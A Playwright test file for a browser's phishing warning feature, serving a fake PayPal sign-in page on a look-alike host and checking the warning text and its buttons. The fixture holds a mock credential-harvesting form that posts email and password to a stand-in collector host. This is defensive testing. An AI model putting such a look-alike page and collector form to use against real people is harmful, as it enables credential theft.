import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { launchNexus, type Nexus } from './nexus.ts'

/** Names that lead nowhere but to this computer: a page on "localhost" is never judged by its address. */
const copy = 'paypal.com.secure-login.test'
const honest = 'smallbakery.test'

let server: Server
let nexus: Nexus
let port: number

test.beforeAll(async () => {
  server = createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
    response.end(
      request.headers.host?.startsWith(copy)
        ? `<!doctype html><title>PayPal: Log in to your account</title><h1>Log in</h1>
           <form action="http://collector.test/take" method="post"><input name="mail"><input type="password" name="secret"></form>`
        : '<!doctype html><title>Rye bread</title><h1>Rye bread</h1><form action="/login"><input type="password"></form>',
    )
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  port = (server.address() as AddressInfo).port
  nexus = await launchNexus({ environment: { NEXUS_HOSTS: '127.0.0.1 *.test' } })
})
test.afterAll(async () => {
  await nexus[Symbol.asyncDispose]()
  server.closeAllConnections()
  await new Promise(resolve => server.close(resolve))
})

const warning = () => nexus.chrome.getByRole('alert', { name: 'Warning about this page' })

test('a copy of a sign-in page is warned about, with its reasons, and left by one button', async () => {
  const { chrome } = nexus
  await nexus.go(`http://${honest}:${port}/`)
  await expect(chrome.getByRole('tab', { name: /Rye bread/ })).toBeVisible()
  await nexus.go(`http://${copy}:${port}/signin`)
  await expect(warning()).toBeVisible({ timeout: 30_000 })
  await expect(warning()).toContainText('This page looks like a copy of PayPal')
  await expect(warning()).toContainText('collector.test')
  await expect(warning()).toContainText('you have not been on this site before today')
  await expect(warning()).toContainText(`${copy}:${port}`)
  await expect(chrome.getByText('Likely a fake')).toBeVisible()
  // It warns and does not block: the page is there.
  await expect((await nexus.page(copy)).getByRole('heading', { name: 'Log in' })).toBeVisible()
  await warning().getByRole('button', { name: 'Leave this page' }).click()
  await expect(chrome.getByRole('tab', { name: /Rye bread/ })).toBeVisible()
  await expect(warning()).toBeHidden()
})

test('a site that the person knows is not warned about again', async () => {
  const { chrome } = nexus
  await nexus.go(`http://${copy}:${port}/again`)
  await expect(warning()).toBeVisible({ timeout: 30_000 })
  await warning().getByRole('button', { name: 'I know this site' }).click()
  await expect(warning()).toBeHidden()
  await nexus.go(`http://${copy}:${port}/third`)
  await expect(chrome.getByRole('tab', { name: /PayPal: Log in/ })).toBeVisible()
  await chrome.waitForTimeout(4_000)
  await expect(warning()).toBeHidden()
})
